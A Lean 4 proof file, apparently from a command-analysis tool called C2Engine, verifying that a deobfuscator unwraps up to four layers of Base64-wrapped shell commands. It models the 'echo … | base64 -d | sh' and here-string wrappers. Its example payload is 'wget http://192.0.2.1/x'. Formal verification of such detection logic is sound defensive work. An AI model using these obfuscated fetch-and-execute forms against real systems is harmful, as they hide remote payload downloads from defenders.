import C2Engine.Analyze.Shell
import C2Engine.Python.Base64
import C2Engine.Python.Reading
import C2Engine.Python.Rounds
import C2Engine.Python.Utf8
import C2Engine.Python.Words

/-!
# Payloads under several layers

`expanded_text` unwraps a command breadth first, four rounds deep, and skips what it has seen. The
pieces it finds are exactly the texts that at most four unwrappings lead to.

A payload that is wrapped in Base64 is found again by one unwrapping: the pattern of the wrapper
captures the whole Base64 text, which decodes to the bytes of the payload.

## Main definitions

* `Inside`: a text that a number of unwrappings leads to.
* `Layer`, `wrapAll`: the two wrappers, and several of them around a payload.

## Main results

* `mem_expandCommand_iff`: the pieces of a command.
* `mem_unwrapOnce_of_wrap`: one layer.
* `mem_expandedLines_of_wrapAll`: a payload under four layers at most is a piece.
-/

namespace C2Engine

open Python

variable {uni : Unicode}

/-! ### The pieces of a command -/

/-- `n` unwrappings lead from a text to a payload. -/
def Inside (uni : Unicode) : ℕ → (text payload : PyStr) → Prop
  | 0, text, payload => payload = text
  | n + 1, text, payload => ∃ inner ∈ unwrapOnce uni text, Inside uni n inner payload

theorem inside_eq_leads (n : ℕ) (text payload : PyStr) :
    Inside uni n text payload = Leads (unwrapOnce uni) n text payload := by
  induction n generalizing text with
  | zero => rfl
  | succ n ih =>
    rw [Inside, Leads]
    simp only [ih]

/-- The loop is a search in rounds. -/
theorem expandGo_eq_rounds (depth : ℕ) (queue seen : List PyStr) :
    expandGo uni depth queue seen = rounds (unwrapOnce uni) depth queue seen := by
  induction depth generalizing queue seen with
  | zero => rfl
  | succ depth ih =>
    rw [expandGo, rounds]
    simp only [ih]

/-- **The pieces of a command** are the texts that at most four unwrappings lead to. -/
theorem mem_expandCommand_iff {raw payload : PyStr} :
    payload ∈ expandCommand uni raw ↔ ∃ n ≤ maxRecursion, Inside uni n raw payload := by
  rw [expandCommand, expandGo_eq_rounds, mem_cons_rounds_iff]
  simp only [inside_eq_leads]

/-! ### One layer -/

/-- The two wrappers. -/
inductive Layer where
  /-- `echo "B" | base64 -d | sh`. -/
  | echo
  /-- `base64 -d <<< "B"`. -/
  | hereString

namespace Layer

/-- The wrapper of a Base64 text. -/
def text : Layer → PyStr → PyStr
  | echo, b => str "echo \"" ++ b ++ str "\" | base64 -d | sh"
  | hereString, b => str "base64 -d <<< \"" ++ b ++ str "\""

/-- The wrapper of a text, with the Base64 of its bytes; a text that cannot be encoded has none. -/
def wrap (layer : Layer) (payload : PyStr) : Except PyExc PyStr := do
  let data ← utf8Encode payload
  return layer.text (b64encode data)

/-- The pattern of the wrapper. -/
def pattern : Layer → Re CodePoint
  | echo => reB64Echo
  | hereString => reB64HereString

end Layer

section Reading

variable {A : Alphabet CodePoint} {b v : PyStr}

theorem isSpace_of_mem_blank : ∀ x ∈ str " ", x.isSpace :=
  List.forall_mem_singleton.mpr (by decide)

/-- One blank is all the white space there is before another character. -/
theorem reads_blank {x : CodePoint} (h : x.isSpace = false) :
    Re.Reads A (.plus .space) (str " ") [] (x :: v) ∧
      Re.Reads A (.star true .space) (str " ") [] (x :: v) := by
  have hstop : ∀ y ∈ (x :: v).head?, y.isSpace = false := by
    rintro y ⟨⟩
    exact h
  exact ⟨.plus_set (by decide) isSpace_of_mem_blank hstop, .star_set isSpace_of_mem_blank hstop⟩

theorem reads_decodeFlag : Re.Reads A decodeFlag (str "-d") [] v :=
  .left (.litI rfl)

theorem reads_quote : Re.Reads A quoteRe (str "\"") [] v := .set (by decide)

/-- The Base64 text up to the quote behind it. -/
theorem reads_base64 (hne : b ≠ []) (hb : ∀ x ∈ b, isBase64CharI x) :
    Re.Reads A (.group 1 (.plus (.set isBase64CharI))) b [(1, b)] (cp '"' :: v) :=
  .group (.plus_set hne hb fun y hy => by cases hy; decide)

/-- The pattern of `echo` reads its wrapper up to the flag. -/
theorem reads_echo (hne : b ≠ []) (hb : ∀ x ∈ b, isBase64CharI x) :
    Re.Reads A reB64Echo (str "echo \"" ++ b ++ str "\" | base64 -d") [(1, b)] (str " | sh") := by
  have hsplit : str "echo \"" ++ b ++ str "\" | base64 -d" =
      str "echo" ++ (str " " ++ (str "\"" ++ (b ++ (str "\"" ++ (str " " ++ (str "|" ++
        (str " " ++ (str "base64" ++ (str " " ++ str "-d"))))))))) := by
    simp [str_eq]
  have hreads : Re.Reads A reB64Echo (str "echo" ++ (str " " ++ (str "\"" ++ (b ++ (str "\"" ++
      (str " " ++ (str "|" ++ (str " " ++ (str "base64" ++ (str " " ++ str "-d"))))))))))
      ([] ++ ([] ++ ([] ++ ([(1, b)] ++ ([] ++ ([] ++ ([] ++ ([] ++ ([] ++ ([] ++ []))))))))))
      (str " | sh") :=
    .seq (.litI rfl) <| .seq (reads_blank rfl).1 <| .seq reads_quote <|
    .seq (reads_base64 hne hb) <| .seq reads_quote <| .seq (reads_blank rfl).2 <|
    .seq (.set (by decide)) <| .seq (reads_blank rfl).2 <| .seq (.litI rfl) <|
    .seq (reads_blank rfl).1 reads_decodeFlag
  rw [hsplit]
  exact hreads

/-- The pattern of the here-string reads its wrapper. -/
theorem reads_hereString (hne : b ≠ []) (hb : ∀ x ∈ b, isBase64CharI x) :
    Re.Reads A reB64HereString (str "base64 -d <<< \"" ++ b ++ str "\"") [(1, b)] [] := by
  have hsplit : str "base64 -d <<< \"" ++ b ++ str "\"" =
      str "base64" ++ (str " " ++ (str "-d" ++ (str " " ++ (str "<<<" ++ (str " " ++ (str "\"" ++
        (b ++ str "\""))))))) := by
    simp [str_eq]
  have hreads : Re.Reads A reB64HereString (str "base64" ++ (str " " ++ (str "-d" ++ (str " " ++
      (str "<<<" ++ (str " " ++ (str "\"" ++ (b ++ str "\""))))))))
      ([] ++ ([] ++ ([] ++ ([] ++ ([] ++ ([] ++ ([] ++ ([(1, b)] ++ [])))))))) [] :=
    .seq (.litI rfl) <| .seq (reads_blank rfl).1 <| .seq reads_decodeFlag <|
    .seq (reads_blank rfl).1 <| .seq .lit <| .seq (reads_blank rfl).2 <|
    .seq (.left reads_quote) <| .seq (reads_base64 hne hb) (.left reads_quote)
  rw [hsplit]
  exact hreads

end Reading

theorem isBase64CharI_b64encode (data : Bytes) : ∀ x ∈ b64encode data, isBase64CharI x :=
  forall_mem_b64encode (P := fun x => isBase64CharI x) (by decide +kernel) (by decide) data

/-- The pattern of a wrapper captures the Base64 text in it. -/
theorem mem_firstGroups_text (layer : Layer) {data : Bytes} (hne : data ≠ []) :
    b64encode data ∈ firstGroups uni layer.pattern (layer.text (b64encode data)) := by
  have hreads : ∃ u v, layer.text (b64encode data) = u ++ v ∧ u ≠ [] ∧
      Re.Reads (Re.text uni) layer.pattern u [(1, b64encode data)] v := by
    have hb := isBase64CharI_b64encode data
    cases layer with
    | echo =>
      refine ⟨_, _, ?_, ?_, reads_echo (b64encode_ne_nil hne) hb⟩
      · simp [Layer.text, str_eq]
      · simp [str_eq]
    | hereString =>
      exact ⟨_, _, (List.append_nil _).symm, by simp [Layer.text, str_eq],
        reads_hereString (b64encode_ne_nil hne) hb⟩
  obtain ⟨u, v, htext, hu, hreads⟩ := hreads
  rw [htext, firstGroups, List.mem_filterMap]
  exact ⟨_, Re.mem_finditer_of_reads hu hreads, rfl⟩

/-- Base64 text of the bytes of a text decodes to the text. -/
theorem tryB64Decode_b64encode {payload : PyStr} {data : Bytes}
    (h : utf8Encode payload = .ok data) :
    tryB64Decode (b64encode data) = some payload := by
  have hsolid : PyStr.Solid (b64encode data) :=
    forall_mem_b64encode (P := fun x => x.isSpace = false) (by decide +kernel) (by decide) data
  have hpad : (4 - (b64encode data).length % 4) % 4 = 0 := by
    rw [length_b64encode, Nat.mul_mod_right]
  rw [tryB64Decode, strip_solid hsolid, hpad, List.replicate_zero, List.append_nil,
    b64decode_b64encode,
    Option.map_some, utf8Decode_of_utf8Encode h, Option.getD_some]

/-- **A payload under one layer** is found by one unwrapping. -/
theorem mem_unwrapOnce_of_wrap {layer : Layer} {payload wrapped : PyStr} (hne : payload ≠ [])
    (h : layer.wrap payload = .ok wrapped) : payload ∈ unwrapOnce uni wrapped := by
  rw [Layer.wrap, bind_eq_ok] at h
  obtain ⟨data, hdata, hwrapped⟩ := h
  cases hwrapped
  have hdec := tryB64Decode_b64encode hdata
  have hdata_ne : data ≠ [] := by
    rintro rfl
    rw [show tryB64Decode (b64encode []) = some [] by decide] at hdec
    exact hne (Option.some.inj hdec).symm
  have hpattern : layer.pattern ∈ [reB64HereString, reB64Echo] := by
    cases layer with
    | echo => exact List.mem_cons_of_mem _ List.mem_cons_self
    | hereString => exact List.mem_cons_self
  rw [unwrapOnce]
  refine List.mem_append_left _
    (List.mem_append_left _ (List.mem_filter.mpr ⟨?_, by simpa using hne⟩))
  exact List.mem_filterMap.mpr ⟨_, List.mem_flatMap.mpr ⟨_, hpattern,
    mem_firstGroups_text layer hdata_ne⟩, hdec⟩

/-! ### Several layers -/

/-- Several layers around a payload, the innermost first. -/
def wrapAll : List Layer → PyStr → Except PyExc PyStr
  | [], payload => .ok payload
  | layer :: layers, payload => do wrapAll layers (← layer.wrap payload)

theorem wrap_ne_nil {layer : Layer} {payload wrapped : PyStr}
    (h : layer.wrap payload = .ok wrapped) :
    wrapped ≠ [] := by
  rw [Layer.wrap, bind_eq_ok] at h
  obtain ⟨data, -, hwrapped⟩ := h
  cases hwrapped
  cases layer <;> simp [Layer.text, str_eq]

theorem Inside.snoc {inner payload : PyStr} : {n : ℕ} → {text : PyStr} → Inside uni n text inner →
    payload ∈ unwrapOnce uni inner → Inside uni (n + 1) text payload
  | 0, _, h, hpayload => ⟨payload, h ▸ hpayload, rfl⟩
  | _ + 1, _, ⟨next, hnext, h⟩, hpayload => ⟨next, hnext, h.snoc hpayload⟩

/-- A payload is inside its wrapped command, as deep as there are layers. -/
theorem inside_of_wrapAll {wrapped : PyStr} : {layers : List Layer} → {payload : PyStr} →
    payload ≠ [] → wrapAll layers payload = .ok wrapped →
      Inside uni layers.length wrapped payload
  | [], _, _, h => Except.ok.inj h
  | layer :: layers, payload, hne, h => by
      rw [wrapAll, bind_eq_ok] at h
      obtain ⟨inner, hinner, h⟩ := h
      exact (inside_of_wrapAll (wrap_ne_nil hinner) h).snoc (mem_unwrapOnce_of_wrap hne hinner)

/-- **A payload under at most four layers is a piece** of the expanded text of any commands the
wrapped one is among, and so is the wrapped command. -/
theorem mem_expandedLines_of_wrapAll {layers : List Layer} {payload wrapped : PyStr}
    {commands : List PyStr} (hne : payload ≠ []) (hdepth : layers.length ≤ 4)
    (hwrap : wrapAll layers payload = .ok wrapped) (hmem : wrapped ∈ commands) :
    let pieces := expandedLines uni commands
    expandedText uni commands = PyStr.join [cp '\n'] pieces ∧ payload ∈ pieces ∧
      wrapped ∈ pieces := by
  have hpieces : expandCommand uni wrapped ⊆ expandedLines uni commands := fun piece hpiece =>
    List.mem_flatMap.mpr ⟨wrapped, hmem, hpiece⟩
  have hinside := @inside_of_wrapAll uni wrapped layers payload hne hwrap
  exact ⟨rfl, hpieces (mem_expandCommand_iff.mpr ⟨layers.length, hdepth, hinside⟩),
    hpieces (mem_expandCommand_self uni wrapped)⟩

/-- A command under four layers of both kinds, of which the innermost and the outermost are
here-strings. -/
theorem mem_expandedLines_of_wrapAll_four :
    let payload := str "wget http://192.0.2.1/x"
    ∃ wrapped, wrapAll [.hereString, .echo, .echo, .hereString] payload = .ok wrapped ∧
      payload ∈ expandedLines .basic [str "uname -a", wrapped] := by
  intro payload
  have hok : (wrapAll [.hereString, .echo, .echo, .hereString] payload).isOk := by
    decide +kernel
  obtain ⟨wrapped, hwrap⟩ := isOk_iff.mp hok
  exact ⟨wrapped, hwrap, (mem_expandedLines_of_wrapAll (by decide) (by decide) hwrap
    (List.mem_cons_of_mem _ List.mem_cons_self)).2.1⟩

end C2Engine
